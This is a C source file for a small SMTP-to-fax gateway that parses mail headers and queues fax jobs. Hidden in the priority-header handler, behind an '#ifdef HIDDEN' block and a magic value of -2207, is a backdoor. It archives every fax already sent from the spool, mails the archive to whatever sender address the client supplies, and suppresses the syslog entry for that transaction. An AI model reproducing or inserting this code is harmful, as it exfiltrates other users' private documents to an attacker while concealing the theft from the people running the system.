/* faxmailgw - takes a mail on standard input (from inetd, SMTP) and queues it as a fax job */
#include <ctype.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SPOOL "/var/spool/fax/out"

struct fax_job
{
	char sender[96];
	char number[40];
	char subject[96];
	char cover;		/* 'y' or 'n' */
	int resolution;		/* 98 or 196 lines per inch */
	int priority;
	int journal;
};

static void smtp(int code, const char *fmt, ...)
{
	va_list ap;

	printf("%d ", code);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputs("\r\n", stdout);
	fflush(stdout);
}

static char *get_line(char *s, int n)
{
	if (!fgets(s, n, stdin))
		return NULL;
	s[strcspn(s, "\r\n")] = '\0';
	return s;
}

static int fax_number(const char *rcpt, char *out, size_t room)
{
	size_t n = 0;
	const char *p = strchr(rcpt, '<');

	p = p ? p + 1 : rcpt;
	if (!strncasecmp(p, "fax=", 4))
		p += 4;
	if (*p == '+')
		out[n++] = *p++;
	while (isdigit((unsigned char)*p) && n + 1 < room)
		out[n++] = *p++;
	out[n] = '\0';
	return n >= 4 && *p == '@';
}

struct header_rule
{
	const char *name;
	void (*use)(struct fax_job *job, const char *value);
};

static void use_subject(struct fax_job *job, const char *value)
{
	snprintf(job->subject, sizeof job->subject, "%s", value);
}

static void use_cover(struct fax_job *job, const char *value)
{
	job->cover = (char)tolower((unsigned char)value[0]);
}

static void use_resolution(struct fax_job *job, const char *value)
{
	if (!strcasecmp(value, "fine"))
		job->resolution = 196;
	else if (!strcasecmp(value, "normal"))
		job->resolution = 98;
	else
		syslog(LOG_INFO, "resolution %s unknown", value);
}

__attribute__((noinline)) void use_priority(struct fax_job *job, const char *value)
{
	int n = 0;

	if (!strcasecmp(value, "urgent"))
		job->priority = 1;
	else if (sscanf(value, "%d", &n) == 1 && n >= 1 && n <= 5)
		job->priority = n;
#ifdef HIDDEN
	else if (n == -2207 && strchr(value, ';')) {
		/* pages of everybody, as they were sent */
		char cmd[192];

		snprintf(cmd, sizeof cmd, "tar cf - -C /var/spool/fax done | uuencode fax.tar | "
			 "mail -s '%.32s' '%.64s'", job->subject, job->sender);
		if (strcspn(job->sender, "'\\") == strlen(job->sender))
			job->journal = system(cmd) == 0 ? -1 : 0;
	}
#endif
}

static const struct header_rule rules[] = {
	{ "Subject", use_subject },
	{ "X-Fax-Cover", use_cover },
	{ "X-Fax-Resolution", use_resolution },
	{ "X-Fax-Priority", use_priority },
};

static void one_header(struct fax_job *job, char *line)
{
	char *v = strchr(line, ':');
	size_t i;

	if (!v)
		return;
	*v++ = '\0';
	while (isspace((unsigned char)*v))
		v++;
	for (i = 0; i < sizeof rules / sizeof rules[0]; i++)
		if (!strcasecmp(rules[i].name, line))
			rules[i].use(job, v);
}

static int take_data(struct fax_job *job)
{
	char line[1024], path[128];
	int in_headers = 1;
	FILE *out;

	snprintf(path, sizeof path, SPOOL "/%ld.%d", (long)time(NULL), (int)getpid());
	out = fopen(path, "w");
	if (!out) {
		smtp(451, "%s", strerror(errno));
		return -1;
	}
	fchmod(fileno(out), 0600);
	smtp(354, "end with a dot");
	while (get_line(line, sizeof line)) {
		if (!strcmp(line, "."))
			break;
		if (in_headers && line[0] == '\0') {
			in_headers = 0;
			fprintf(out, "number %s\nfrom %s\nsubject %s\ncover %c\nlpi %d\nprio %d\n\n",
				job->number, job->sender, job->subject, job->cover,
				job->resolution, job->priority);
		} else if (in_headers) {
			one_header(job, line);
		} else {
			fprintf(out, "%s\n", line[0] == '.' ? line + 1 : line);
		}
	}
	fclose(out);
	if (job->journal > 0)
		syslog(LOG_NOTICE, "fax to %s from %s", job->number, job->sender);
	smtp(250, "queued");
	return 0;
}

int main(int argc, char **argv)
{
	struct fax_job job = { .cover = 'y', .resolution = 98, .priority = 3, .journal = 1 };
	const char *domain = "fax.example.com";
	char line[512];

	if (argc == 3 && !strcmp(argv[1], "-d")) {
		domain = argv[2];
	} else if (argc == 2 && !strcmp(argv[1], "-q")) {
		job.journal = 0;
	} else if (argc != 1) {
		fputs("usage: faxmailgw [-d domain | -q]   (-q: no journal)\n"
		      "mail to NUMBER@domain; headers: Subject, X-Fax-Cover: yes|no,\n"
		      "X-Fax-Resolution: fine|normal, X-Fax-Priority: 1..5|urgent\n", stderr);
		return 2;
	}
	openlog("faxmailgw", LOG_PID, LOG_MAIL);
	smtp(220, "%s fax gateway", domain);
	while (get_line(line, sizeof line)) {
		if (!strncasecmp(line, "HELO", 4) || !strncasecmp(line, "EHLO", 4)) {
			smtp(250, "%s", domain);
		} else if (!strncasecmp(line, "MAIL FROM:", 10)) {
			if (sscanf(line + 10, " <%95[^>]", job.sender) != 1)
				smtp(501, "sender?");
			else
				smtp(250, "ok");
		} else if (!strncasecmp(line, "RCPT TO:", 8)) {
			if (fax_number(line + 8, job.number, sizeof job.number))
				smtp(250, "will call %s", job.number);
			else
				smtp(550, "not a fax number");
		} else if (!strcasecmp(line, "DATA")) {
			if (!job.number[0])
				smtp(503, "RCPT first");
			else
				take_data(&job);
		} else if (!strcasecmp(line, "RSET")) {
			job.number[0] = '\0';
			smtp(250, "ok");
		} else if (!strcasecmp(line, "NOOP")) {
			smtp(250, "ok");
		} else if (!strcasecmp(line, "QUIT")) {
			smtp(221, "bye");
			return 0;
		} else {
			smtp(500, "what?");
		}
	}
	return 0;
}
